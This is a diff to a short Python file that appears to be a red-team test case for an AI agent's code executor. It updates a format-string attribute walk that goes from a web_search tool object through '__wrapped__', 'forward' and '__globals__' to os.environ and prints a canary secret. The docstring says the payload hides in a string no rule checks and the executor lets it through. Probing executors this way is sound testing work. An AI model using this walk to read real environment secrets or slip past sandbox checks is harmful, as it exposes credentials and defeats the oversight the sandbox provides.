@@ -1,6 +1,6 @@
 """Read attributes with a format string.
 
-Attempts:  "{0.__globals__…}".format: the walk is written in a text, which no rule looks at, and ends in the environment.
+Attempts:  "{0.__wrapped__…}".format: the walk is written in a text, which no rule looks at, and ends in the environment.
 Success:   a secret of the environment is printed.
 Proof:     canary environment
 Runs:      executor
@@ -8,4 +8,4 @@ Executor:  lets it through: it is no security boundary, in its authors' words. H
 Container: own environment (KeyError)
 """
 
-print("{0.forward.__globals__[os].environ[CANARY_TOKEN]}".format(web_search))
+print("{0.__wrapped__.forward.__globals__[os].environ[CANARY_TOKEN]}".format(web_search))
